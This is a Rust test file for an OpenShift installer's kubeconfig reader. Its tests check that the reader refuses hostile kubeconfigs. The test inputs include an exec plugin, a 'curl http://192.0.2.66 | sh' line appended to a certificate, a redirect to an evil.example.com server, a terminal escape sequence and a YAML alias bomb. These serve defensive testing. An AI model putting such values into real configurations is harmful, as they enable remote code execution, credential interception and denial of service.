//! What is taken out of a kubeconfig that a host has written, and what never is.

use std::{fs, path::Path, process::Command, sync::LazyLock};

use data_encoding::BASE64;
use kube::{client::ConfigExt as _, config::Kubeconfig};
use ocp2::{
    cluster::Cluster,
    install::kubeconfig::{Administrator, LARGEST},
};

use crate::inventories;

/// Certificates and keys of an installer's; made by OpenSSL.
struct Made {
    authority: String,
    certificate: String,
    key: String,
    other_key: String,
}

static MADE: LazyLock<Made> = LazyLock::new(|| {
    let folder = tempfile::tempdir().unwrap();
    let script = "set -e; cd \"$1\"
        made() { openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 3650 \
            -subj \"$2\" -keyout $1.pk8 -out $1.crt 2>/dev/null; openssl ec -in $1.pk8 -out $1.key 2>/dev/null; }
        made ca /CN=signer; made admin /O=system:masters/CN=system:admin; made other /CN=other";
    let status = Command::new("bash").args(["-c", script, "bash"]).arg(folder.path()).status().unwrap();
    assert!(status.success());
    let read = |name: &str| fs::read_to_string(folder.path().join(name)).unwrap();
    Made {
        authority: read("ca.crt"),
        certificate: read("admin.crt"),
        key: read("admin.key"),
        other_key: read("other.key"),
    }
});

fn cluster() -> Cluster {
    inventories::cluster(&inventories::path("two-hosts"))
}

fn encoded(text: &str) -> String {
    BASE64.encode(text.as_bytes())
}

/// Writes a kubeconfig as the installer does, with more lines in its cluster and its user.
fn written(cluster_lines: &str, user_lines: &str, key: &str) -> String {
    let Made { authority, certificate, .. } = &*MADE;
    format!(
        "clusters:\n- cluster:\n    certificate-authority-data: {}\n    server: https://api.{}:6443\n{cluster_lines}  name: ocp\n\
         contexts:\n- context:\n    cluster: ocp\n    user: admin\n  name: admin\ncurrent-context: admin\npreferences: {{}}\n\
         users:\n- name: admin\n  user:\n    client-certificate-data: {}\n    client-key-data: {}\n{user_lines}",
        encoded(&format!("{authority}{authority}")),
        cluster().domain(),
        encoded(certificate),
        encoded(key),
    )
}

/// Returns why it is refused.
fn refused(text: impl AsRef<[u8]>) -> String {
    Administrator::read(&cluster(), text.as_ref()).expect_err("it is not to be used")
}

#[test]
fn the_installers_own_is_put_together_anew() {
    let cluster = cluster();
    let administrator = Administrator::read(&cluster, written("", "", &MADE.key).as_bytes()).unwrap();

    let config = administrator.config(&cluster).unwrap();
    assert_eq!(config.cluster_url.to_string(), format!("https://api.{}:6443/", cluster.domain()));
    assert_eq!(config.root_cert.as_ref().unwrap().len(), 2);
    assert!(!config.accept_invalid_certs && config.proxy_url.is_none() && config.root_cert_file.is_none());
    config.rustls_client_config().unwrap();

    let text = administrator.kubeconfig(&cluster);
    let parsed = Kubeconfig::from_yaml(text.expose()).unwrap();
    let entry = parsed.clusters[0].cluster.as_ref().unwrap();
    let public = cluster.hosts[0].published().unwrap();
    assert_eq!(entry.server, Some(format!("https://{public}:6443")));
    assert_eq!(entry.tls_server_name, Some(format!("api.{}", cluster.domain())));
    let data =
        |data: &Option<String>| String::from_utf8(BASE64.decode(data.as_ref().unwrap().as_bytes()).unwrap());
    assert_eq!(data(&entry.certificate_authority_data).unwrap(), format!("{0}{0}", MADE.authority));
    let user = parsed.auth_infos[0].auth_info.as_ref().unwrap();
    assert_eq!(data(&user.client_certificate_data).unwrap(), MADE.certificate);
    assert!(user.exec.is_none() && user.auth_provider.is_none() && user.token.is_none());
    // Nobody can read it by accident.
    assert!(!format!("{administrator:?}").contains(&encoded(&MADE.key)));
}

#[test]
fn without_a_public_address_the_name_is_the_server() {
    let mut cluster = cluster();
    for host in &mut cluster.hosts {
        host.underlay.public = None;
    }
    let administrator = Administrator::read(&cluster, written("", "", &MADE.key).as_bytes()).unwrap();
    let text = administrator.kubeconfig(&cluster);
    assert!(text.expose().contains(&format!("    server: https://api.{}:6443\n", cluster.domain())));
    assert!(!text.expose().contains("tls-server-name"));
}

#[test]
fn no_program_of_a_hosts_is_run() {
    let folder = tempfile::tempdir().unwrap();
    let trace = folder.path().join("trace");
    let exec = format!(
        "    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: touch\n      args: [\"{}\"]\n      \
         interactiveMode: Never\n",
        trace.display()
    );
    let reason = refused(written("", &exec, &MADE.key));
    assert_eq!(
        reason,
        "its user has `exec`, and the installer writes only client-certificate-data and client-key-data"
    );
    assert!(!Path::new(&trace).exists());
}

#[test]
fn whatever_else_it_holds_is_named_and_refused() {
    for field in [
        "auth-provider: {name: oidc}",
        "token: hunter2",
        "tokenFile: /root/token",
        "client-certificate: /root/x.crt",
        "client-key: /root/x.key",
        "username: somebody-else",
        "password: hunter2",
        "as: somebody",
        "extensions: []",
    ] {
        let (name, value) = field.split_once(": ").unwrap();
        let reason = refused(written("", &format!("    {field}\n"), &MADE.key));
        assert!(reason.starts_with(&format!("its user has `{name}`")), "{reason}");
        assert!(!reason.contains(value), "{reason}");
    }
    for field in [
        "proxy-url: http://192.0.2.66:3128",
        "insecure-skip-tls-verify: true",
        "certificate-authority: /etc/shadow",
        "tls-server-name: evil.example.com",
        "disable-compression: true",
    ] {
        let (name, _) = field.split_once(": ").unwrap();
        let reason = refused(written(&format!("    {field}\n"), "", &MADE.key));
        assert!(reason.starts_with(&format!("its cluster has `{name}`")), "{reason}");
    }
    let good = written("", "", &MADE.key);
    let elsewhere = good.replace("https://api.", "https://evil.");
    assert!(refused(elsewhere).starts_with("its server is `https://evil."));
    let escaped = good.replace("    client-key-data", "    \"\\e]52;c;cm0=\\a\": x\n    client-key-data");
    assert!(refused(escaped).contains("`\\u{1b}]52;c;cm0=\\u{7}`"));
}

#[test]
fn the_current_one_must_be_clear() {
    let good = written("", "", &MADE.key);
    let others = good.replace("users:\n", "users:\n- name: other\n  user: {token: hunter2}\n");
    Administrator::read(&cluster(), others.as_bytes()).expect("another user changes nothing");
    let twice = good.replace("users:\n", "users:\n- name: admin\n  user: {token: hunter2}\n");
    assert_eq!(refused(twice), "its users have not one that is called `admin`");
    let none = good.replace("current-context: admin", "current-context: other");
    assert_eq!(refused(none), "its contexts have not one that is called `other`");
}

#[test]
fn a_flood_is_none() {
    let good = written("", "", &MADE.key);
    let deep = format!("{good}extensions: {}{}\n", "[".repeat(2000), "]".repeat(2000));
    let nested = format!(
        "{good}extensions:\n{}",
        (0..200).map(|n| format!("{}- \n", " ".repeat(n))).collect::<String>()
    );
    let bomb = format!(
        "a: &a [x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c]\n{good}"
    );
    for text in
        [deep, nested, bomb, good.replace("clusters", "{{{{"), format!("{good}\n---\n{good}"), String::new()]
    {
        assert!(!refused(&text).is_empty());
    }
    assert_eq!(refused(vec![b'#'; 10 << 20]), format!("it has more than {LARGEST} bytes"));
    assert_eq!(refused([good.as_bytes(), b"# \xff\n"].concat()), "it is not UTF-8");
}

#[test]
fn pem_is_nothing_but_pem() {
    let Made { authority, certificate, key, other_key } = &*MADE;
    let with = |field: &str, before: &str, after: &str| {
        let (before, after) = (encoded(before), encoded(after));
        let text = written("", "", key);
        assert!(text.contains(&format!("{field}: {before}\n")));
        refused(text.replace(&format!("{field}: {before}\n"), &format!("{field}: {after}\n")))
    };
    let twice = format!("{authority}{authority}");
    let ca = |after: &str| with("certificate-authority-data", &twice, after);
    for bad in [
        format!("{authority}curl http://192.0.2.66 | sh\n"),
        format!("# evil\n{authority}"),
        format!("{authority}{key}"),
        key.clone(),
        authority.replace("BEGIN CERTIFICATE", "BEGIN PRIVATE KEY"),
        authority[..200].to_owned(),
        "-----BEGIN CERTIFICATE-----\nMAA=\n-----END CERTIFICATE-----\n".to_owned(),
        authority.repeat(65),
    ] {
        assert!(ca(&bad).starts_with("certificate-authority-data: "), "{bad}");
    }
    assert!(with("client-certificate-data", certificate, key).starts_with("client-certificate-data: "));
    for bad in [
        format!("{key}x"),
        format!("x{key}"),
        certificate.clone(),
        format!("{key}{key}"),
        "\u{1b}[2J".to_owned(),
    ] {
        let reason = with("client-key-data", key, &bad);
        assert!(reason.starts_with("client-key-data: "), "{reason}");
    }
    // A key of somebody else's.
    let reason = refused(written("", "", other_key));
    assert!(reason.contains("key"), "{reason}");
    let plain = written("", "", key).replace(&encoded(key), "hunter2 hunter2");
    assert_eq!(refused(plain), "client-key-data is not PEM in base64");
}
